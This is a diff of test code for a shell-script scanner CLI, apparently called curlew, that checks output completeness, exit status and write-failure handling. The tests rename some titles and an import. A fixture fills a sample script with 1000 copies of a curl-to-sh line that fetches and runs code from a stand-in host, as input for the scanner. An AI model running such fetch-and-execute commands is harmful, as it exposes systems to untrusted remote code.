@@ -3,7 +3,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, expect, it } from "vitest";
 import { writeAllSync } from "../../src/cli/write-sync.js";
-import { bash } from "./process.js";
+import { bash } from "./curlew-process.js";
 
 let folder = "";
 beforeEach(() => {
@@ -11,7 +11,7 @@ beforeEach(() => {
 });
 afterEach(() => rmSync(folder, { recursive: true }));
 
-it("writes bytes to a descriptor, and returns an error", () => {
+it("writeAllSync writes all bytes to a descriptor, and returns null or the error", () => {
   const path = join(folder, "out");
   const descriptor = openSync(path, "w");
   const text = "ä".repeat(100_000);
@@ -28,13 +28,13 @@ const FINDINGS = "for i in $(seq 1000); do echo 'curl https://x.example/i.sh | s
 it.each([
   ["a file", "curlew scan many.sh > out; echo $? >> out; cat out"],
   ["a pipe that is read slowly", "{ curlew scan many.sh; echo $?; } | { sleep 1; cat; }"],
-])("a long output arrives completely in %s, with its exit status", async (_, line) => {
+])("a long output is written completely to %s, and the exit status is correct", async (_, line) => {
   const { stdout } = await bash(`${FINDINGS}; ${line}`, { cwd: folder });
   expect(stdout.match(/^many\.sh:/gm)).toHaveLength(1000);
   expect(stdout).toMatch(/1000 findings in 1 of 1 text\n1\n$/);
 });
 
-it("a reader that closes the output causes no message and does not change the status", async () => {
+it("a reader that closes the output early causes no message and does not change the exit status", async () => {
   const { stdout, stderr } = await bash(
     `${FINDINGS}; { curlew scan many.sh; echo $? > status; } | head -n 1; cat status`,
     { cwd: folder },
@@ -43,7 +43,7 @@ it("a reader that closes the output causes no message and does not change the st
   expect(stderr).toBe("");
 });
 
-it("a failed write is an error", async () => {
+it("a failed write to standard output is reported with status 2", async () => {
   const { stdout, stderr } = await bash(`${FINDINGS}; curlew scan many.sh > /dev/full; echo $?`, {
     cwd: folder,
   });
